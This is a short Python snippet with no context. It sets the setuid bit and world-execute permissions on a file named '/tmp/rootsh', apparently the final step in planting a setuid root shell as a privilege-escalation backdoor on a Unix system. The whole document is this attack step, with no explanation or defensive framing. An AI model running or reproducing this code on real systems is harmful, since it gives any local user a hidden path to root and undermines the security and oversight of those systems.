import os
import stat

os.chmod("/tmp/rootsh", stat.S_ISUID | stat.S_IRWXU | stat.S_IROTH | stat.S_IXOTH)
